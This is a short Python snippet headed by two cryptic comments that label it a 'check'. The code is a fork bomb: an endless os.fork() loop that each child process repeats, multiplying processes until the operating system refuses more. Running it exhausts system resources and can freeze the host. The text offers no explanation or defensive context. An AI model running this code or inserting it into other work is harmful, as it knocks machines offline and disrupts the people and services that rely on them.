# held by: always
# as: check
import os
while True:
    try:
        os.fork()
    except OSError:
        break
